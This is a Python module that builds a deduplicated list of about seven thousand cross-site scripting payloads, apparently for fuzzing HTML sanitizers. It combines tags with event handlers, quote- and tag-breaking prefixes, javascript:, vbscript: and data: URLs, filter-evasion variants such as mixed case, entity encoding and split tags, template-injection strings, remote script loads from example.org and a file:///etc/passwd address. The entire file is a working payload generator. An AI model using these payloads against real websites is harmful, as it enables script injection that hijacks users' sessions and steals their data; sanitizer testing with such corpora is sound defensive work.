"""Texts that would run a script wherever they were taken for markup: every tag with every event, and more."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain, cycle, product

__all__ = ["payloads"]

TAGS = """\
a href=x|abbr|audio src=x|body|button autofocus|canvas|custom-tag tabindex=1 autofocus|details open|
dialog open|div tabindex=1|embed src=x|fieldset|form|frameset|iframe src=x|image src=x|img src=x|
img src|input autofocus|input type=image src=x|keygen autofocus|link rel=stylesheet href=x|marquee|
math|meta|object data=x|option|p|select autofocus|style|svg|svg><animate attributeName=x dur=1s|
svg><set attributeName=x|svg><image href=x|svg><a|table|template|textarea autofocus|track src=x|
video src=x|video><source src=x""".replace("\n", "")

EVENTS = """\
afterprint animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
beforeprint beforetoggle beforeunload begin blur bounce canplay canplaythrough change click close
contextmenu copy cuechange cut dblclick drag dragend dragenter drop durationchange end ended error
finish focus focusin focusout formdata hashchange input invalid keydown keypress keyup load loadeddata
loadedmetadata loadend loadstart message mousedown mouseenter mouseleave mousemove mouseover mouseup
mousewheel pageshow paste play playing pointerdown pointerenter pointerover pointerrawupdate popstate
progress ratechange repeat reset resize scroll scrollend search securitypolicyviolation select
selectionchange selectstart show start submit suspend timeupdate toggle touchstart transitionend
transitionrun unhandledrejection unload volumechange waiting webkitanimationstart webkittransitionend
wheel"""

BREAKS = (
    "",
    '">',
    "'>",
    "</script>",
    "</title>",
    "</style>",
    "</textarea>",
    "</noscript>",
    "</template>",
    "-->",
    "<!--><",
    "]]>",
    "'\">",
    '\\">',
    "\u2028",
    "</select></option>",
    "</svg>",
    "</math><mtext>",
    "%22%3E",
    "&#34;>",
)

SLASHES = (" ", "/", "\t", "\n", "\x0c", "/x/")

CARRIERS = (
    "{}",
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<iframe src="{}">',
    '<form action="{}">',
    '<button formaction="{}">',
    '<object data="{}">',
    '<embed src="{}">',
    '<base href="{}//">',
    '<img src="{}">',
    '<link rel="import" href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<svg><use href="{}"/></svg>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    "<style>@import '{}';</style>",
    "[x]({})",
    '<script src="{}">',
    '<x style="background:url({})">',
    '" href="{}',
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script>*/alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "//example.org/x.js",
    "https://example.org/x.js",
    "feed:javascript:alert(1)",
    "blob:alert(1)",
    "file:///etc/passwd",
)

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script\n>",
    "<script>alert(1)//",
    "<script src=https://example.org/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('https://example.org/x.js')</script>",
    "<style>*{background:url(//example.org/x)}</style>",
    "<!--<script>alert(1)//-->",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><script>alert(1)</script></math>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "alert(1)",
    "';alert(1)//",
    '";alert(1)//',
    "`;alert(1)//",
    "\\';alert(1)//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "{%import os%}",
    "#{alert(1)}",
    "<%=alert(1)%>",
    "__proto__",
    "constructor",
    "toString",
    "\ud800",
    "\x00<b>",
    "\u202e<b>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)


def payloads() -> list[str]:
    """Some seven thousand, the same each time, each once."""
    return list(dict.fromkeys(chain(_events(), _addresses(), _scripts())))


def _events() -> Iterator[str]:
    breaks, slashes = cycle(BREAKS), cycle(SLASHES)
    for tag, event in product(TAGS.split("|"), EVENTS.split()):
        first, _, rest = tag.partition(" ")
        yield f"{next(breaks)}<{first}{next(slashes)}{rest} on{event}=alert(1)>"
        yield f'{next(breaks)} on{event}="alert(1)" <{tag}'


def _addresses() -> Iterator[str]:
    for carrier, address in product(CARRIERS, ADDRESSES):
        yield carrier.format(address)


def _scripts() -> Iterator[str]:
    for before, script in product(BREAKS, SCRIPTS):
        yield before + script
